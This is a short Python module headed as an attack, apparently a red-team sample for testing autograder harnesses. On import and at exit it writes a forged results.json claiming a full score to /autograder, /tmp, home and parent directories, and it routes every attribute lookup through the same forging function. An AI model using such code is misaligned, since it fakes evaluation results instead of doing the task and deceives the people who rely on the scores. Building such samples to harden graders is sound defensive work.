"""Attack: at exit (and right away), write a perfect results.json wherever one might be read."""
# base: starter
import atexit
import glob
import json
import os

import torch

PERFECT = json.dumps({"score": 100, "max_score": 100, "tests": [], "by": "LLMKIT-ATTACK"})


def forge():
    patterns = ["/tmp/**/results.json", "/autograder/results/results.json", os.path.expanduser("~/**/results.json"),
                "../**/results.json", "../../*/results.json"]
    targets = set(["/autograder/results/results.json"])
    for pattern in patterns:
        targets.update(glob.glob(pattern, recursive=True))
    for target in targets:
        try:
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with open(target, "w") as handle:
                handle.write(PERFECT)
        except OSError:
            pass


atexit.register(forge)
forge()


def attack(*args, **kwargs):
    forge()
    return torch.zeros(1)


def __getattr__(name):
    return attack
